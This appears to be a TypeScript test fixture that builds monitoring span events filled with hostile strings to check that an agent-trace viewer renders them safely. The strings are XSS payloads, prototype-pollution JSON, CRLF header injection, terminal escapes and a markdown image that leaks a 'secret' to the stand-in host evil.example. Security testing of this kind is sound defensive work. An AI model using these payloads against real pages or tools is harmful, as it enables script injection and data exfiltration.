import { asRunId, asSpanId, type MonitorEvent } from 'spanlight/store';

const run = 'javascript:__owned(1)';

/** Texts that try to be more than text. Each may execute only by calling `__owned`, or ask for something on `evil.example`. */
const hostileTexts: readonly string[] = [
  '<script>__owned(1)</script>',
  '<img src=x onerror="__owned(2)">',
  '<svg/onload=__owned(3)><animate onbegin=__owned(3) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__owned(4)</script>"></iframe>',
  '"><style>@import url(https://evil.example/style.css);*{background:url(https://evil.example/bg.png)}</style>',
  'javascript:__owned(5)',
  '[click me](javascript:__owned(6))',
  '![pixel](https://evil.example/pixel.png?leak=secret)',
  '<https://evil.example/auto>',
  '<a href="https://evil.example/link" ping="https://evil.example/ping">link</a>',
  '<link rel=prefetch href=https://evil.example/prefetch><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example/osc8\u0007click\u001b]8;;\u0007 \u001b[2J',
  'user\u202egnp.exe \u2066isolate\u2069 \u200fRTL',
  'in\u200bvis\u200cib\u2060le\ufeff \u{e0041}\u{e0042}',
  'a\r\nSet-Cookie: x=1\r\n\r\nb\rc',
  '\u0000\u0001\u0008\u007f\u0085',
  '${__owned(7)} {{constructor.constructor("__owned(8)")()}}',
  '__proto__',
  '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
  'data:text/html,<script>__owned(9)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__owned(10)>',
  '\u{1d573}\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(20),
  'a'.repeat(5_000),
];

/** A span of each kind for each hostile text: in its name, its arguments, its messages, its error, its attributes. */
export function hostileEvents(): MonitorEvent[] {
  const ts = 1_800_000_000_000;
  const printable = (text: string) => text.replaceAll(/\p{Cc}/gu, ' ').slice(0, 200);
  return hostileTexts.flatMap((text, at): MonitorEvent[] =>
    (['tool', 'llm'] as const).map((kind) => ({
      id: `hostile-${at}-${kind}`,
      type: 'span.end',
      sv: 1,
      ts: ts + at,
      run: asRunId(run),
      span: asSpanId(`h${at}-${kind}`),
      a: {
        kind,
        name: printable(text),
        startedAtMs: ts,
        endedAtMs: ts + 5,
        status: kind === 'tool' ? 'error' : 'ok',
        errorType: kind === 'tool' ? printable(text) : undefined,
        agentName: printable(text),
        model: kind === 'llm' ? printable(text) : undefined,
      },
      detail: {
        input:
          kind === 'llm'
            ? [
                { role: text, content: text },
                { role: 'user', content: [{ type: 'image_url', image_url: { url: text } }] },
              ]
            : { [text]: text },
        output:
          kind === 'llm'
            ? [
                {
                  role: 'assistant',
                  content: text,
                  tool_calls: [{ id: text, function: { name: text, arguments: text } }],
                },
              ]
            : text,
        error: { message: text, type: text, stack: text, data: { [text]: [text] } },
        attributes: { [text]: text, nested: { [text]: [text] } },
        metadata: { [text]: text },
      },
    })),
  );
}
